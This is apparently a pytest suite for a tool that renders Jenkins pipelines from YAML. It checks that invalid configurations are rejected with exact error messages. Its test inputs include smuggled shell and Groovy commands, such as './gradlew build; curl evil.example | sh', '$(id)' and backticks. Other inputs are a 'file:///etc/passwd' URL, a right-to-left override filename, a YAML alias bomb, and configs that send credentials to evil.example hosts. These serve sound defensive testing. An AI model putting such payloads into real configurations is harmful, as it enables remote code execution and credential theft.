"""Bad configuration files: each gets exact one-line messages naming file, line and key, exit 1.

The base file below is valid; each case replaces or inserts lines and states, written by hand from
the message format in the README, what ``render`` must print.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from enadu_pipelines import yamlsource
from enadu_pipelines.cli import main

BASE = """\
version: 1
library:
  version: v1.0.0
  repository: https://github.com/enadu/enadu-pipelines.git
registry:
  host: registry.example.com
  credentials_id: reg
kubernetes:
  credentials_id: kube
discord:
  credentials_id: hook
services:
  backend:
    kind: gradle
    repository: https://github.com/enadu/enadu.git
    branch: be-dev
    paths: ["backend/**", "common/**"]
    image:
      name: enadu/backend
"""
# line numbers in BASE:  3 library.version, 6 registry.host, 9 kubernetes.credentials_id,
# 13 services.backend, 14 kind, 15 repository, 16 branch, 17 paths, 18 image, 19 image.name


def replace(line: int, text: str) -> str:
    lines = BASE.splitlines()
    lines[line - 1] = text
    return "\n".join(lines) + "\n"


def insert(after: int, text: str) -> str:
    lines = BASE.splitlines()
    lines[after:after] = text.splitlines()
    return "\n".join(lines) + "\n"


UNSAFE = ("is not allowed in any value (no control characters, line or paragraph separators, bidirectional"
          " controls, surrogates or non-characters)")

CASES = [
    pytest.param(replace(16, """    branch: "be-dev'; sh 'touch /tmp/x\""""),
                 ["bad.yaml:16: services.backend.branch: \"be-dev'; sh 'touch /tmp/x\" is not a git branch name"
                  " (letters, digits and . _ / -)"], id="branch-groovy-injection"),
    pytest.param(replace(17, '    paths: ["$(id)"]'),
                 ["bad.yaml:17: services.backend.paths[0]: '$(id)' is not a path glob relative to the repository"
                  " root (letters, digits, . _ - / and the wildcards * ** ?)"], id="paths-shell-substitution"),
    pytest.param(replace(16, "    brnach: be-dev"),
                 ["bad.yaml:13: services.backend.branch: required key is missing",
                  "bad.yaml:16: services.backend.brnach: unknown key (did you mean 'branch'?)"], id="typo-did-you-mean"),
    pytest.param(replace(12, "servces:"),
                 ["bad.yaml:1: services: required key is missing",
                  "bad.yaml:12: servces: unknown key (did you mean 'services'?)"], id="top-level-typo"),
    pytest.param(insert(9, "  flavour: blue"),
                 ["bad.yaml:10: kubernetes.flavour: unknown key (allowed: abort_scale_down_delay, auto_promotion_enabled,"
                  " auto_promotion_seconds, container_port, credentials_id, deploy_timeout, health_path, namespace,"
                  " old_colour, preview_replica_count, promotion_submitter, replicas, resources, scale_down_delay,"
                  " scale_down_delay_floor, smoke_test)"], id="unknown-key-lists-allowed"),
    # abortScaleDownDelaySeconds (issue 14): a duration or the word never, globally or per service
    pytest.param(insert(9, "  abort_scale_down_delay: 0"),
                 ["bad.yaml:10: kubernetes.abort_scale_down_delay: expected text, got a number"],
                 id="abort-delay-number"),
    pytest.param(insert(19, "    kubernetes:\n      abort_scale_down_delay: forever"),
                 ["bad.yaml:21: services.backend.kubernetes.abort_scale_down_delay: 'forever' is not a duration of"
                  " at most 5m such as '30s' or '5m', or 'never'"], id="abort-delay-word"),
    # review3 M2: the delay holds the deploy lock; a deploy or abort started meanwhile waits --lock-timeout (5m)
    pytest.param(insert(9, "  abort_scale_down_delay: 1h"),
                 ["bad.yaml:10: kubernetes.abort_scale_down_delay: '1h' is not a duration of at most 5m such as '30s'"
                  " or '5m', or 'never': the deploy lock is held for the whole delay (a deploy or abort waits 5m for"
                  " it); use never to keep the colour longer"], id="abort-delay-too-long"),
    pytest.param(insert(9, "  abort_scale_down_delay: 0301s"),
                 ["bad.yaml:10: kubernetes.abort_scale_down_delay: '0301s' is not a duration of at most 5m such as"
                  " '30s' or '5m', or 'never': the deploy lock is held for the whole delay (a deploy or abort waits 5m"
                  " for it); use never to keep the colour longer"], id="abort-delay-301s"),
    pytest.param(insert(9, '  replicas: "2"'),
                 ["bad.yaml:10: kubernetes.replicas: expected a whole number, got text"], id="number-as-text"),
    pytest.param(insert(9, "  replicas: 0"),
                 ["bad.yaml:10: kubernetes.replicas: Input should be greater than or equal to 1"], id="replicas-zero"),
    pytest.param(replace(14, "    kind: rust"),
                 ["bad.yaml:14: services.backend.kind: Input should be 'gradle' or 'node'"], id="unknown-kind"),
    pytest.param(replace(19, "      name: Enadu/Backend"),
                 ["bad.yaml:19: services.backend.image.name: 'Enadu/Backend' is not a Docker image repository name"
                  " (lower-case path components such as 'enadu/backend', no tag)"], id="image-uppercase"),
    pytest.param(insert(17, "    build:\n      commands: ['./gradlew build; curl evil.example | sh']"),
                 ["bad.yaml:19: services.backend.build.commands[0]: './gradlew build; curl evil.example | sh' is not"
                  " a simple command (words of letters, digits and . _ / : = @ % + , - separated by spaces; no quotes,"
                  " $, ;, |, &, redirections or backticks)"], id="command-chaining"),
    pytest.param(insert(17, "    build:\n      commands: ['npm run `id`']"),
                 ["bad.yaml:19: services.backend.build.commands[0]: 'npm run `id`' is not a simple command (words of"
                  " letters, digits and . _ / : = @ % + , - separated by spaces; no quotes, $, ;, |, &, redirections"
                  " or backticks)"], id="command-backticks"),
    pytest.param(replace(7, "  credentials_id: my registry"),
                 ["bad.yaml:7: registry.credentials_id: 'my registry' is not a Jenkins credentials id (letters, digits"
                  " and . _ -)"], id="credentials-id-space"),
    pytest.param(replace(15, "    repository: file:///etc/passwd"),
                 ["bad.yaml:15: services.backend.repository: 'file:///etc/passwd' is not a git repository URL"
                  " (https://host/org/repo.git, ssh://git@host/org/repo.git or git@host:org/repo.git)"],
                 id="repository-file-url"),
    pytest.param(replace(15, "    repository: https://ci-bot:ghp_SECRET0123456789@github.com/enadu/enadu.git"),
                 ["bad.yaml:15: services.backend.repository: 'https://github.com/enadu/enadu.git...' is not a git"
                  " repository URL (https://host/org/repo.git, ssh://git@host/org/repo.git or git@host:org/repo.git)"],
                 id="repository-credentials-not-echoed"),
    pytest.param(replace(6, "  host: deploy:s3cr3t-pass@registry.example.com"),
                 ["bad.yaml:6: registry.host: 'registry.example.com...' is not a registry host name with an optional"
                  " port (such as 'registry.example.com:5000')"], id="registry-credentials-not-echoed"),
    pytest.param(replace(13, "  Backend:"),
                 ["bad.yaml:13: services.Backend: 'Backend' is not a service name (lower-case letters, digits and '-',"
                  " starting with a letter, at most 40 characters)"], id="service-name-uppercase"),
    pytest.param(insert(16, "    branch: main"),
                 ["bad.yaml:17: services.backend.branch: duplicate key (first given on line 16)"], id="duplicate-key"),
    pytest.param(replace(1, "version: 2"),
                 ["bad.yaml:1: version: Input should be 1"], id="wrong-version"),
    pytest.param(insert(9, "  health_path: actuator/health"),
                 ["bad.yaml:10: kubernetes.health_path: 'actuator/health' is not an HTTP path starting with '/'"
                  " (letters, digits and . _ ~ / -)"], id="health-path-relative"),
    pytest.param(insert(9, "  scale_down_delay: 30 seconds"),
                 ["bad.yaml:10: kubernetes.scale_down_delay: '30 seconds' is not a duration such as '30s', '10m' or"
                  " '1h'"], id="duration-words"),
    pytest.param(replace(17, '    paths: ["backend/../secrets/**"]'),
                 ["bad.yaml:17: services.backend.paths[0]: 'backend/../secrets/**' is not a path glob relative to"
                  " the repository root (letters, digits, . _ - / and the wildcards * ** ?): path segments may not be"
                  " empty, '.' or '..'"], id="glob-dotdot"),
    pytest.param(replace(17, '    paths: ["backend/**.java"]'),
                 ["bad.yaml:17: services.backend.paths[0]: 'backend/**.java' is not a path glob relative to the"
                  " repository root (letters, digits, . _ - / and the wildcards * ** ?): '**' must be a whole path"
                  " segment, as in 'common/**'"], id="glob-partial-doublestar"),
    pytest.param(replace(16, "    branch: feature..x"),
                 ["bad.yaml:16: services.backend.branch: 'feature..x' is not a git branch name (letters, digits and"
                  " . _ / -): git does not allow '..', '//', '/.' or a trailing '.', '/' or '.lock'"],
                 id="branch-dotdot"),
    pytest.param(insert(19, "  batch:\n    kind: gradle\n    repository: https://github.com/enadu/enadu.git\n"
                            "    branch: be-dev\n    paths: ['batch/**']\n    image:\n      name: enadu/backend"),
                 ["bad.yaml:26: services.batch.image.name: services 'backend' and 'batch' use the same image 'enadu/backend'"],
                 id="same-image-twice"),
    pytest.param(insert(15, "    description: \"Enadu\\nbackend\""),
                 [f"bad.yaml:16: services.backend.description: U+000A at character 6 {UNSAFE}"], id="description-newline"),
    # Issue 13, finding 13a: characters XML 1.0 (a job's config.xml), Groovy or a console cannot carry
    # safely are refused in every value, by one rule at the root, whatever escape wrote them.
    pytest.param(insert(15, '    description: "Enadu\\uFFFE"'),
                 [f"bad.yaml:16: services.backend.description: U+FFFE at character 6 {UNSAFE}"], id="noncharacter"),
    pytest.param(insert(15, '    description: "Enadu \\x85backend"'),
                 [f"bad.yaml:16: services.backend.description: U+0085 at character 7 {UNSAFE}"], id="c1-control"),
    pytest.param(insert(15, '    description: "Enadu\\u2028backend"'),
                 [f"bad.yaml:16: services.backend.description: U+2028 (LINE SEPARATOR) at character 6 {UNSAFE}"],
                 id="line-separator"),
    pytest.param(insert(15, '    description: "admin\\u202Egnp.exe"'),
                 [f"bad.yaml:16: services.backend.description: U+202E (RIGHT-TO-LEFT OVERRIDE) at character 6 {UNSAFE}"],
                 id="bidi-override"),
    pytest.param(insert(15, '    description: "\\0"'),
                 [f"bad.yaml:16: services.backend.description: U+0000 at character 1 {UNSAFE}"], id="nul-escape"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    latency_query: 'max(up)\U0001FFFF'"),
                 [f"bad.yaml:14: monitoring.analysis.latency_query: U+1FFFF at character 8 {UNSAFE}"],
                 id="query-noncharacter"),
    pytest.param(insert(13, '    "ba\\u2029d": x'),
                 [f"bad.yaml:14: services.backend.ba\\u2029d: U+2029 (PARAGRAPH SEPARATOR) at character 3 {UNSAFE}"],
                 id="key-paragraph-separator"),
    # 13b: no value that can reach a command line may begin with '-' (one rule for every pattern type).
    pytest.param(replace(17, '    paths: ["-q"]'),
                 ["bad.yaml:17: services.backend.paths[0]: '-q' is not a path glob relative to the repository root"
                  " (letters, digits, . _ - / and the wildcards * ** ?): it may not begin with '-' (a command would"
                  " read it as an option)"], id="glob-option"),
    pytest.param(insert(17, "    test:\n      junit: '--x.xml'"),
                 ["bad.yaml:19: services.backend.test.junit: '--x.xml' is not a path glob relative to the"
                  " repository root (letters, digits, . _ - / and the wildcards * ** ?): it may not begin with '-' (a"
                  " command would read it as an option)"], id="junit-option"),
    pytest.param(insert(19, '      context: "-q"'),
                 ["bad.yaml:20: services.backend.image.context: '-q' is not a relative path (letters, digits and"
                  " . _ - /): it may not begin with '-' (a command would read it as an option)"], id="context-option"),
    # An absolute path would build the agent's own files (other workspaces, ~/.ssh) into an image.
    pytest.param(insert(19, '      context: /var/lib/jenkins'),
                 ["bad.yaml:20: services.backend.image.context: '/var/lib/jenkins' is not a relative path (letters,"
                  " digits and . _ - /): use a relative path without '..' or empty segments"], id="context-absolute"),
    pytest.param(insert(17, "    build:\n      commands: ['-rf x']"),
                 ["bad.yaml:19: services.backend.build.commands[0]: '-rf x' is not a simple command (words of letters,"
                  " digits and . _ / : = @ % + , - separated by spaces; no quotes, $, ;, |, &, redirections or"
                  " backticks): it may not begin with '-' (a command would read it as an option)"],
                 id="command-option"),
    # 16: ports are 1-65535 wherever a host may carry one.
    pytest.param(replace(6, "  host: registry.example.com:99999"),
                 ["bad.yaml:6: registry.host: 'registry.example.com:99999' is not a registry host name with an"
                  " optional port (such as 'registry.example.com:5000'): a port is a number from 1 to 65535"],
                 id="registry-port-too-large"),
    pytest.param(replace(15, "    repository: https://github.com:0/enadu/enadu.git"),
                 ["bad.yaml:15: services.backend.repository: 'https://github.com:0/enadu/enadu.git' is not a git"
                  " repository URL (https://host/org/repo.git, ssh://git@host/org/repo.git or git@host:org/repo.git):"
                  " a port is a number from 1 to 65535"], id="repository-port-zero"),
    # 16: two services whose Kubernetes objects would have one name in one namespace.
    pytest.param(insert(19, "  backend-preview:\n    kind: gradle\n    repository: https://github.com/enadu/enadu.git\n"
                            "    branch: be-dev\n    paths: ['batch/**']\n    image:\n      name: enadu/batch"),
                 ["bad.yaml:20: services.backend-preview: its Service 'backend-preview' has the name of the preview"
                  " Service of service 'backend' (namespace 'default'); rename one of them"],
                 id="derived-name-collision"),
    pytest.param(insert(11, "  mention_role_on_failure: '123'"),
                 ["bad.yaml:12: discord.mention_role_on_failure: '123' is not a Discord role id (17 to 20 digits)"],
                 id="role-id-short"),
    pytest.param(insert(17, "    test:\n      enabled: 'yes'"),
                 ["bad.yaml:19: services.backend.test.enabled: expected true or false, got text"], id="bool-as-text"),
    pytest.param("- version: 1\n",
                 ["bad.yaml:1: the file must be a mapping of keys such as 'version' and 'services'"], id="not-a-mapping"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    enabled: true"),
                 ["bad.yaml:14: monitoring.analysis.enabled: analysis of service 'backend' needs"
                  " monitoring.prometheus_url"], id="analysis-without-prometheus"),
    pytest.param(insert(19, "    monitoring:\n      analysis:\n        before_switch: true"),
                 ["bad.yaml:22: services.backend.monitoring.analysis.before_switch: analysis of service 'backend'"
                  " needs monitoring.prometheus_url"], id="service-analysis-without-prometheus"),
    pytest.param(insert(11, "monitoring:\n  grafana:\n    url: https://grafana.example.com"),
                 ["bad.yaml:14: monitoring.grafana.url: Grafana annotations of service 'backend' need both"
                  " grafana.url and grafana.credentials_id"], id="grafana-without-credentials"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    latency_query: 'max(up{job=\"{job}\"})'"),
                 ["bad.yaml:14: monitoring.analysis.latency_query: 'max(up{job=\"{job}\"})' is not a PromQL query"
                  " template on one line: unknown placeholder {job} (known: {service}, {namespace}, {colour},"
                  " {window})"], id="query-unknown-placeholder"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    success_rate_query: \"up\\n# sh 'id'\""),
                 [f"bad.yaml:14: monitoring.analysis.success_rate_query: U+000A at character 3 {UNSAFE}"],
                 id="query-newline"),
    pytest.param(insert(11, "monitoring:\n  prometheus_url: https://admin:s3cret@prom.example.com/?token=abc"),
                 ["bad.yaml:13: monitoring.prometheus_url: 'https://prom.example.com/...' is not an http(s) URL such"
                  " as 'https://prometheus.example.com:9090' (no credentials, query or fragment)"],
                 id="prometheus-url-credentials-not-echoed"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    min_success_rate: 1.5"),
                 ["bad.yaml:14: monitoring.analysis.min_success_rate: Input should be less than or equal to 1"],
                 id="success-rate-above-one"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    window: 10s\n    interval: 20s"),
                 ["bad.yaml:15: monitoring.analysis.interval: service 'backend': need 1s <= interval (20s) <= window"
                  " (10s) <= 1h"], id="interval-longer-than-window"),
    pytest.param(insert(11, "monitoring:\n  analysis:\n    inconclusive: maybe"),
                 ["bad.yaml:14: monitoring.analysis.inconclusive: Input should be 'fail' or 'pass'"],
                 id="inconclusive-choice"),
    pytest.param(insert(11, "monitoring:\n  prometheus: http://p"),
                 ["bad.yaml:13: monitoring.prometheus: unknown key (did you mean 'prometheus_url'?)"],
                 id="monitoring-typo"),
    pytest.param(BASE.replace("    image:\n      name: enadu/backend\n", "    image: enadu/backend\n"),
                 ["bad.yaml:18: services.backend.image: expected a mapping, got text"], id="scalar-for-section"),
]


@pytest.mark.parametrize("text, expected", CASES)
def test_bad_config_is_reported_on_its_line(tmp_path: Path, runner, text: str, expected: list[str]) -> None:
    (tmp_path / "bad.yaml").write_text(text, "utf-8")
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml"), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    prefix = str(tmp_path) + "/"
    assert [line.replace(prefix, "") for line in result.stderr.splitlines()] == [f"error: {e}" for e in expected]
    assert result.stdout == ""
    assert not (tmp_path / "out").exists(), "nothing may be written for a bad config"


def test_invalid_yaml_names_the_line(tmp_path: Path, runner) -> None:
    (tmp_path / "bad.yaml").write_text(replace(17, '    paths: ["backend/**", "common/**"'), "utf-8")
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml")])
    assert result.exit_code == 1
    [line] = result.stderr.splitlines()
    assert line.startswith(f"error: {tmp_path}/bad.yaml:18: invalid YAML: ")


def test_missing_file(tmp_path: Path, runner) -> None:
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "nope.yaml")])
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path}/nope.yaml: no such file (pass --config FILE)\n"


def test_not_utf8(tmp_path: Path, runner) -> None:
    (tmp_path / "bad.yaml").write_bytes(BASE.encode() + b"# caf\xe9\n")
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "bad.yaml")])
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path}/bad.yaml:20: file is not valid UTF-8\n"


def test_config_is_a_directory(tmp_path: Path, runner) -> None:
    (tmp_path / "dir.yaml").mkdir()
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "dir.yaml")])
    assert result.exit_code in (1, 2)  # click itself refuses a directory for a dir_okay=False path
    assert "dir.yaml" in result.stderr and "Traceback" not in result.output


def test_base_config_is_valid(tmp_path: Path, runner) -> None:
    """The cases above fail because of their one change, not because the base is wrong."""
    from conftest import seed_bundle

    (tmp_path / "good.yaml").write_text(BASE, "utf-8")
    seed_bundle(tmp_path)
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "good.yaml")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "pipelines" / "backend" / "Jenkinsfile").is_file()


def test_yaml_alias_bomb_is_refused_quickly(tmp_path: Path, runner) -> None:
    lines = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]']
    for prev, name in zip("abcdefg", "bcdefgh"):
        lines.append(f"{name}: &{name} [{', '.join(['*' + prev] * 10)}]")
    (tmp_path / "bomb.yaml").write_text("\n".join(lines) + "\n")
    result = runner.invoke(main, ["render", "--check", "--config", str(tmp_path / "bomb.yaml")])
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path}/bomb.yaml:1: the document expands to more than 100000 values (YAML aliases?)\n"


def test_recursive_yaml_alias(tmp_path: Path, runner) -> None:
    (tmp_path / "loop.yaml").write_text("version: 1\nlibrary: &lib\n  nested: *lib\n")
    result = runner.invoke(main, ["render", "--check", "--config", str(tmp_path / "loop.yaml")])
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path}/loop.yaml:2: library.nested: a YAML alias refers to itself\n"


def test_merge_keys_still_work(tmp_path: Path, runner) -> None:
    from conftest import seed_bundle

    text = BASE.replace("registry:\n  host: registry.example.com\n  credentials_id: reg\n",
                        "x-registry: &registry\n  host: registry.example.com\n  credentials_id: reg\n"
                        "registry:\n  <<: *registry\n")
    (tmp_path / "merge.yaml").write_text(text)
    seed_bundle(tmp_path)
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "merge.yaml")])
    # merge keys are resolved (the registry is complete), and the anchor's own key is still unknown
    assert result.exit_code == 1
    assert result.stderr == f"error: {tmp_path}/merge.yaml:5: x-registry: unknown key (did you mean 'registry'?)\n"


def test_nul_byte_is_one_line_with_its_line(tmp_path: Path, runner) -> None:
    """Issue 13, finding 16: a raw NUL byte was reported at line 0, in two lines."""
    (tmp_path / "bad.yaml").write_text(insert(15, "    description: Enadu\x00backend"), "utf-8")
    result = runner.invoke(main, ["render", "--check", "--config", str(tmp_path / "bad.yaml")])
    assert result.exit_code == 1
    assert result.stderr == (f"error: {tmp_path}/bad.yaml:16: invalid YAML: U+0000 at column 23 {UNSAFE}\n")


def test_merge_key_overridden_by_the_mapping(tmp_path: Path, runner) -> None:
    """Issue 13, finding 14: keys of the mapping itself override merged ones (yaml.org/type/merge.html);
    among several merged mappings the earlier one wins; a key given twice in one mapping stays an error."""
    from enadu_pipelines import config

    text = BASE.replace("  backend:\n", "  backend: &defaults\n    description: Enadu backend\n") + (
        "  batch:\n"                                   # line 21
        "    <<: [*defaults, {kind: node, branch: main, module: batch}]\n"
        "    description: Enadu batch\n"               # line 23
        "    paths: ['batch/**']\n"
        "    image:\n"
        "      name: enadu/batch\n")
    (tmp_path / "merge.yaml").write_text(text)
    project = config.load(tmp_path / "merge.yaml")
    backend, batch = project.services
    assert (batch.description, batch.kind, batch.branch, batch.paths) == ("Enadu batch", "gradle", "be-dev", ("batch/**",))
    assert batch.build_commands == ("./gradlew --no-daemon :batch:bootJar -x test",)
    assert backend.description == "Enadu backend"
    located = yamlsource.load(text)
    assert located.lines[("services", "batch", "description")] == 23
    assert located.lines[("services", "batch", "branch")] == 17  # where the merged value is written

    (tmp_path / "dup.yaml").write_text(text.replace("    description: Enadu batch\n",
                                                    "    description: Enadu batch\n    description: again\n"))
    result = runner.invoke(main, ["render", "--check", "--config", str(tmp_path / "dup.yaml")])
    assert result.exit_code == 1
    assert result.stderr == (f"error: {tmp_path}/dup.yaml:24: services.batch.description: duplicate key"
                             " (first given on line 23)\n")


# --------------------------------------------------------------------------------------------
# Which host receives which credential (issue 13, finding 3). BASE lines 5-7 are the registry,
# 10-11 discord; the Grafana section is inserted after line 11.

GRAFANA = "monitoring:\n  grafana:\n    url: {url}\n    credentials_id: {credential}\n"  # lines 12-15


def grafana(url: str = "https://grafana.example.com", credential: str = "graf", extra: str = "") -> str:
    return insert(11, GRAFANA.format(url=url, credential=credential)) + extra


CREDENTIAL_CASES = [
    pytest.param(grafana(credential="hook"),
                 ["bad.yaml:15: monitoring.grafana.credentials_id: credential 'hook' is the Discord webhook"
                  " (discord.credentials_id); one credential serves one purpose, so a Grafana token needs a"
                  " credential of its own"], id="discord-webhook-as-grafana-token"),
    pytest.param(grafana(credential="reg"),
                 ["bad.yaml:15: monitoring.grafana.credentials_id: credential 'reg' is the registry login"
                  " (registry.credentials_id); one credential serves one purpose, so a Grafana token needs a"
                  " credential of its own"], id="registry-login-as-grafana-token"),
    pytest.param(BASE + "credential_hosts:\n  reg: evil.example.com\n",
                 ["bad.yaml:21: credential_hosts.reg: credential 'reg' is sent to 'registry.example.com'"
                  " (registry.host); it cannot also be sent to 'evil.example.com'"], id="registry-login-to-another-host"),
    pytest.param(grafana(url="http://grafana.example.com:3000"),
                 ["bad.yaml:14: monitoring.grafana.url: must use https (plain http only to loopback: 127.0.0.1,"
                  " localhost, ::1), or it would send the Grafana token in clear"], id="grafana-plain-http"),
    pytest.param(grafana() + "    monitoring:\n      grafana:\n        url: https://collector.evil.example\n",
                 ["bad.yaml:26: services.backend.monitoring.grafana.url: credential 'graf' is sent only to"
                  " 'grafana.example.com' (monitoring.grafana.url), not 'collector.evil.example'; another Grafana"
                  " needs a credential of its own, paired with its host in credential_hosts"],
                 id="service-sends-the-grafana-token-elsewhere"),
    pytest.param(grafana() + "    monitoring:\n      grafana:\n        url: https://grafana.team.example\n"
                             "        credentials_id: team-graf\n",
                 ["bad.yaml:27: services.backend.monitoring.grafana.credentials_id: credential 'team-graf' is not"
                  " paired with 'grafana.team.example': add 'team-graf: grafana.team.example' to credential_hosts,"
                  " where reviewers see every host a credential is sent to"], id="unlisted-pairing"),
    pytest.param(BASE + "credential_hosts:\n  spare: grafana.example.com\n",
                 ["bad.yaml:21: credential_hosts.spare: credential 'spare' is paired with 'grafana.example.com' but"
                  " no Grafana setting uses it; remove the pairing (the list allows only what is used)"],
                 id="unused-pairing"),
    # The git clone credential goes to the library repository's host (or the one credential_hosts names).
    pytest.param(insert(7, "jenkins:\n  git_credentials_id: gh") + "  batch:\n    kind: gradle\n"
                 "    repository: https://evil.example.com/x.git\n    branch: be-dev\n    paths: [\"batch/**\"]\n"
                 "    image:\n      name: enadu/batch\n",
                 ["bad.yaml:24: services.batch.repository: credential 'gh' is sent only to 'github.com'"
                  " (library.repository), not 'evil.example.com'; a repository on another host needs a credential"
                  " of its own, paired with its host in credential_hosts"], id="git-credential-to-another-host"),
    pytest.param(insert(7, "jenkins:\n  git_credentials_id: gh") + "credential_hosts:\n  gh: git.evil.example\n",
                 ["bad.yaml:17: services.backend.repository: credential 'gh' is sent only to 'git.evil.example'"
                  " (credential_hosts.gh), not 'github.com'; a repository on another host needs a credential of its"
                  " own, paired with its host in credential_hosts"], id="git-credential-listed-elsewhere"),
]


@pytest.mark.parametrize("text, expected", CREDENTIAL_CASES)
def test_a_credential_goes_only_to_its_paired_host(tmp_path: Path, runner, text: str, expected: list[str]) -> None:
    test_bad_config_is_reported_on_its_line(tmp_path, runner, text, expected)


def test_the_git_credential_is_pinned_to_the_repositories_host(tmp_path: Path) -> None:
    from enadu_pipelines import config

    # scp-like and https spellings of one host; a host other than the library's, once listed.
    text = insert(7, "jenkins:\n  git_credentials_id: gh").replace(
        "https://github.com/enadu/enadu.git", "git@git.corp.example:enadu/enadu.git") + (
        "credential_hosts:\n  gh: git.corp.example\n")
    (tmp_path / "ok.yaml").write_text(text)
    loaded = config.load(tmp_path / "ok.yaml")
    assert ("gh", "git.corp.example") in loaded.credential_hosts


def test_a_listed_pairing_and_loopback_http_are_accepted(tmp_path: Path) -> None:
    from enadu_pipelines import config

    text = grafana(url="http://localhost:3000") + (
        "    monitoring:\n      grafana:\n        url: https://grafana.team.example\n"
        "        credentials_id: team-graf\n"
        "credential_hosts:\n  team-graf: grafana.team.example\n")
    (tmp_path / "ok.yaml").write_text(text)
    [backend] = config.load(tmp_path / "ok.yaml").services
    assert (backend.monitoring.grafana_url, backend.monitoring.grafana_credentials_id) == (
        "https://grafana.team.example", "team-graf")


def test_a_promotion_wait_longer_than_the_build_timeout_is_refused(tmp_path: Path, runner) -> None:
    """review2 M2: the whole-build timeout (Jenkinsfile.j2 ``timeout``) must leave room for the deploy, the
    input's wait and the promote, or it fires first and cuts the abort in the ``finally`` after 60 s."""
    repo = Path(__file__).resolve().parents[1]
    text = (repo / "enadu.yaml").read_text()
    marker = "    kubernetes:\n      replicas: 1\n"
    assert text.count(marker) == 1
    path = tmp_path / "enadu.yaml"
    path.write_text(text.replace(marker, marker + "      auto_promotion_enabled: false\n", 1))
    result = runner.invoke(main, ["render", "--config", str(path), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    assert "auto_promotion_enabled" in lines[0] and "auto_promotion_seconds 3600" in lines[0], lines
    assert "deploy_timeout 10m" in lines[0] and "jenkins.timeout_minutes 60" in lines[0], lines
    assert not (tmp_path / "out").exists()
    # a wait that fits renders
    path.write_text(text.replace(marker, marker + "      auto_promotion_enabled: false\n"
                                 "      auto_promotion_seconds: 900\n", 1))
    ok = runner.invoke(main, ["render", "--config", str(path), "--out", str(tmp_path / "out")])
    assert ok.exit_code == 0, ok.output
    # review3 M2: the finally's abort waits out the abort scale-down delay after the input: it counts too
    path.write_text(text.replace(marker, marker + "      auto_promotion_enabled: false\n"
                                 "      auto_promotion_seconds: 2200\n      abort_scale_down_delay: 5m\n", 1))
    result = runner.invoke(main, ["render", "--config", str(path), "--out", str(tmp_path / "out3")])
    assert result.exit_code == 1, result.output
    [line] = result.stderr.splitlines()
    assert "abort_scale_down_delay 5m" in line and "auto_promotion_seconds 2200" in line, line
    for fits in ("30s", "never"):
        path.write_text(text.replace(marker, marker + "      auto_promotion_enabled: false\n"
                                     f"      auto_promotion_seconds: 2200\n      abort_scale_down_delay: {fits}\n", 1))
        ok = runner.invoke(main, ["render", "--config", str(path), "--out", str(tmp_path / f"out-{fits}")])
        assert ok.exit_code == 0, ok.output


def test_abort_scale_down_delay_reaches_the_pipeline(tmp_path: Path, runner) -> None:
    """Default 30s (Argo Rollouts' DefaultAbortScaleDownDelaySeconds); never per service."""
    text = BASE.replace("  credentials_id: kube\n", "  credentials_id: kube\n  abort_scale_down_delay: 45s\n") + \
        "    kubernetes:\n      abort_scale_down_delay: never\n"
    (tmp_path / "ok.yaml").write_text(text, "utf-8")
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "ok.yaml"), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    jenkinsfile = (tmp_path / "out" / "pipelines" / "backend" / "Jenkinsfile").read_text()
    assert "abortScaleDownDelay: 'never'," in jenkinsfile
    (tmp_path / "ok.yaml").write_text(BASE, "utf-8")
    result = runner.invoke(main, ["render", "--config", str(tmp_path / "ok.yaml"), "--out", str(tmp_path / "out2")])
    assert "abortScaleDownDelay: '30s'," in (tmp_path / "out2" / "pipelines" / "backend" / "Jenkinsfile").read_text()
